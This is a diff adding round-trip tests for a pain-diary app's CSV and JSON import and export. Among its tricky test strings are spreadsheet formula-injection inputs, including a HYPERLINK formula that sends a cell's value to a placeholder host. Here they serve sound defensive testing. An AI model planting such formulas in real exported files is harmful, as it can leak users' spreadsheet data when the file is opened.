@@ -1,0 +1,197 @@
+"""What was exported comes in as it was, whatever is in it and however the file was saved again."""
+
+from __future__ import annotations
+
+import csv
+import io
+import random
+import shutil
+from collections.abc import Callable
+from contextlib import closing
+from datetime import UTC, date, datetime
+from pathlib import Path
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from fibrolog.entries import ClearDay, Episode, Moment, RemedyUse
+from fibrolog.exchange.csv_file import write_csv
+from fibrolog.exchange.json_file import Contents, write_json
+from fibrolog.exchange.parcels import Told, open_parcel
+from fibrolog.storage.diary import Diary
+from fibrolog.storage.incoming import Merged, Rejected
+from fibrolog.storage.ledger import Selection
+from fibrolog.storage.rows import COLUMNS
+from fibrolog.vocabulary import Region, Remedy
+from tests.conftest import Outcome
+from tests.strategies import clear_days, episodes, uses
+
+NOW = datetime(2026, 11, 22, 2, 12, tzinfo=UTC)
+REGIONS = ["calf", "lower-back", "=scalp", "'tail bone"]
+REMEDIES = ["heat", "vitamin d", "@home rest", "+1 tea"]
+ENTRIES = st.one_of(episodes(REGIONS), uses(REMEDIES), clear_days())
+HARD = {
+    "formula": '=HYPERLINK("http://x?"&A1,"see")',
+    "plus and minus": "+49\n-1",
+    "at": "@SUM(A1)",
+    "tab": "\tx",
+    "apostrophes": "''=1+1 'tis",
+    "lines": "a\nb\r\nc\rd\n",
+    "carriage return first": "\rx",
+    "NUL": "a\0b",
+    "quotes": 'a "b", c;d|e\t"',
+    "only a quote": '"',
+    "emoji": "👩‍👩‍👧‍👦 🏳️‍🌈 क्‍ष",
+    "separators": "one\u2028two\x0bthree\x1cfour\x85five",
+    "mark": "\ufeffmark",
+    "spaces": "  x  ",
+    "300 kB": "long; \n" * 50_000,
+}
+
+
+def csv_text(path: Path, *, excel: bool = False) -> str:
+    file = io.StringIO(newline="")
+    with Diary.open(path) as diary:
+        write_csv(diary.table(Selection()), COLUMNS, file, excel=excel)
+    return file.getvalue()
+
+
+def json_text(path: Path) -> str:
+    file = io.StringIO(newline="")
+    with Diary.open(path) as diary, diary.one_moment():
+        table = diary.table(Selection(), revised=True)
+        write_json(Contents("0", NOW, diary.words(), diary.removals(), table), file)
+    return file.getvalue()
+
+
+def respelled(text: str, delimiter: str = ",", *, shuffled: bool = False) -> str:
+    """Return a CSV as another program saves it, which takes nothing for its own."""
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    if shuffled:
+        places = random.Random(7).sample(range(len(COLUMNS)), len(COLUMNS))
+        rows = [["mine", *(row[place] for place in places)] for row in rows]
+    made = io.StringIO(newline="")
+    csv.writer(made, delimiter=delimiter, quoting=csv.QUOTE_ALL).writerows(rows)
+    return made.getvalue()
+
+
+SAVED: dict[str, Callable[[Path], bytes]] = {
+    "csv": lambda path: csv_text(path).encode(),
+    "excel": lambda path: csv_text(path, excel=True).encode(),
+    "semicolons": lambda path: respelled(csv_text(path), ";").encode("utf-8-sig"),
+    "tabs in UTF-16": lambda path: respelled(csv_text(path), "\t").encode("utf-16"),
+    "other order": lambda path: respelled(csv_text(path), shuffled=True).encode(),
+    "json": lambda path: json_text(path).encode(),
+    "diary": lambda path: path.read_bytes(),
+}
+
+
+def bring_in(file: Path, into: Path) -> Merged:
+    """Bring a file in, of which everything must fit."""
+    rejected: list[Rejected] = []
+    with (
+        Diary.open(into).expecting_many() as diary,
+        closing(open_parcel(file, Told(), diary, NOW)) as parcel,
+    ):
+        done = diary.merge(parcel, NOW, rejected.append)
+    assert rejected == []
+    return done
+
+
+def fill(path: Path, many: list[Episode | RemedyUse | ClearDay]) -> None:
+    """Save entries, and delete one that is not needed, so that a number is missing."""
+    with Diary.open(path) as diary, diary.one_step("import", NOW):
+        wanted = diary.save_uses([RemedyUse(Moment(NOW), "heat")], NOW)
+        for name in REGIONS:
+            if diary.regions.find(name) is None:
+                diary.add_region(Region(name), NOW)
+        for name in REMEDIES:
+            if diary.remedies.find(name) is None:
+                diary.add_remedy(Remedy(name), NOW)
+        for entry in many:
+            if isinstance(entry, Episode):
+                diary.save_episode(entry, (), NOW)
+            elif isinstance(entry, RemedyUse):
+                diary.save_uses([entry], NOW)
+            else:
+                diary.save_clear_days([entry], NOW)
+        diary.delete([record.id for record in wanted], NOW)
+
+
+def require_same(source: Path, blank: Path, folder: Path) -> None:
+    """Check that each way out of a diary leads into another, and back to the same bytes."""
+    before = csv_text(source)
+    for name, save in SAVED.items():
+        file, target = folder / "file", folder / "target.db"
+        file.write_bytes(save(source))
+        shutil.copy(blank, target)
+
+        bring_in(file, target)
+
+        assert csv_text(target) == before, name
+        if name in ("json", "diary"):
+            assert json_text(target) == json_text(source), name
+        once = target.read_bytes()
+        assert not bring_in(file, target).writes
+        assert target.read_bytes() == once
+
+
+@settings(
+    max_examples=12,
+    deadline=None,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+)
+@given(many=st.lists(ENTRIES, max_size=10))
+def test_any_diary_comes_out_of_every_kind_of_file_as_it_went_in(
+    blank: Path,
+    tmp_path_factory: pytest.TempPathFactory,
+    many: list[Episode | RemedyUse | ClearDay],
+) -> None:
+    folder = tmp_path_factory.mktemp("round")
+    source = folder / "source.db"
+    shutil.copy(blank, source)
+    fill(source, many)
+
+    require_same(source, blank, folder)
+
+
+def test_hard_texts_come_out_of_every_kind_of_file_as_they_went_in(
+    blank: Path, tmp_path: Path
+) -> None:
+    source = tmp_path / "source.db"
+    shutil.copy(blank, source)
+    at = Moment(NOW)
+    for day, text in enumerate(HARD.values(), 1):
+        trigger = text.replace(";", ",").replace("\0", "").strip()
+        fill(
+            source,
+            [
+                Episode(at, "=scalp", triggers=("cold", trigger, "x"), note=text),
+                RemedyUse(at, "+1 tea", dose=text, note=text),
+                ClearDay(date(2026, 10, day), text),
+            ],
+        )
+
+    require_same(source, blank, tmp_path)
+
+
+def test_the_commands_give_the_same_bytes_again(
+    tell: Callable[..., Outcome], tmp_path: Path
+) -> None:
+    for command in (
+        ["add", "calf", "l", "7", "--took", "heat", "--note", '=1+1 "x"'],
+        ["none", "yesterday"],
+        ["remedies", "add", "my tea"],
+        ["took", "my tea", "--for", "last", "--relief", "good"],
+        ["delete", "u1", "--yes"],
+    ):
+        tell(*command).saved()
+    for name, options in (("csv", ["--excel"]), ("json", [])):
+        first, again, other = tmp_path / f"1.{name}", tmp_path / f"2.{name}", tmp_path / name
+        tell("export", "--format", name, *options, "-o", first).saved()
+
+        tell("import", first, diary=other).saved()
+
+        tell("export", "--format", name, *options, "-o", again, diary=other).saved()
+        assert again.read_bytes() == first.read_bytes()
